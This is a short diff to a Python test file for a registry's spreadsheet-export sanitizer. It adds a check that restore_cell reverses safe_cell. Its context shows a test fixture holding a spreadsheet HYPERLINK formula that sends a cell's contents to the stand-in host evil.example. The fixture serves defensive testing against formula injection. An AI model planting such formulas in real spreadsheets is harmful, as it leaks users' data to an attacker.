@@ -17,7 +17,7 @@ from registry import db
 from registry.indigo.exporter import export_contracts
 from registry.loader import load_paths, validate_paths
 from registry.queries import get_contract
-from registry.spreadsheet import safe_cell, safe_frame
+from registry.spreadsheet import restore_cell, safe_cell, safe_frame
 from tests.registry.factories import contract_dict
 
 HOSTILE_URLS = [
@@ -114,6 +114,7 @@ HOSTILE_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
 )
 def test_safe_cell(value: object, expected: object) -> None:
     assert safe_cell(value) == expected
+    assert restore_cell(safe_cell(value)) == value  # what the INDIGO reader does with our own export
 
 
 def test_safe_frame_keeps_numbers_numbers() -> None:
